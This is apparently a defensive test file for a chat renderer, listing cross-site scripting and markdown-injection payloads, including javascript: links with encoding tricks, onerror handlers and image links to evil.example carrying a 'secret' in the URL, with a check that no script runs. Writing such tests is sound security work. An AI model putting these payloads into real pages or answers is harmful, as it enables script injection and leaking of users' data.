"""What a model may write that a careless page would run or fetch."""

from typing import Any

ATTACKS = [
    "<script>window.harm = 1</script>",
    "<img src=x onerror='window.harm = 1'>",
    "<svg onload='window.harm = 1'><script>window.harm = 1</script></svg>",
    "</script><script>window.harm = 1</script>",
    "<iframe srcdoc='<script>parent.harm = 1</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action='http://evil.example'><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src onerror='window.harm = 1'>",
    "[x](javascript:window.harm=1)",
    "[x](JaVaScRiPt:window.harm=1)",
    "[x](java\tscript:window.harm=1)",
    "[x](&#106;avascript:window.harm=1)",
    "[x](%6aavascript:window.harm=1)",
    "[x](\x01javascript:window.harm=1)",
    "[x](data:text/html,<script>window.harm=1</script>)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](blob:http://evil.example/1)",
    "[x](https://a.org\"onmouseover='window.harm=1')",
    "<javascript:window.harm=1>",
    "![x](http://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg onload='window.harm=1'>)",
    "[![x](http://evil.example/p.png)](javascript:window.harm=1)",
    "![](http://evil.example/?q=`secret`)",
    "`<img src=x onerror='window.harm = 1'>`",
    "```html\n<img src=x onerror='window.harm = 1'>\n```",
    "```<img/src=x/onerror=window.harm=1>\ncode\n```",
    '```"onmouseover=window.harm=1\ncode\n```',
    "| <img src=x onerror='window.harm=1'> |\n|---|\n| [x](javascript:window.harm=1) |",
    "# <img src=x onerror='window.harm = 1'>",
    "- [ ] <img src=x onerror='window.harm = 1'>",
    "<think><img src=x onerror='window.harm = 1'></think><b onclick='window.harm=1'>x</b>",
    "{{constructor.constructor('window.harm=1')()}}",
    "<a href='javascript:window.harm=1'>x</a>",
    "<template><img src=x onerror='window.harm=1'></template>",
    "__proto__ constructor [__proto__](https://a.org)",
]

_ALLOWED = (
    "p,br,strong,em,del,code,pre,a,ul,ol,li,blockquote,hr,h2,h3,h4,h5,h6,table,thead,tbody,"
    "tr,th,td,div,span,button,svg,path"
)


def check_prose(page: Any) -> None:
    """Assert that answers are made of harmless elements, and that nothing of them was run."""
    for link in page.locator(".prose a").all():
        assert link.get_attribute("href").startswith(("https://a.org", "http://evil.example/"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    names = page.evaluate(
        "() => [...document.querySelectorAll('.prose *')].map(({localName}) => localName)"
    )
    assert names
    assert set(names) <= set(_ALLOWED.split(","))
    assert page.evaluate("() => window.harm") is None
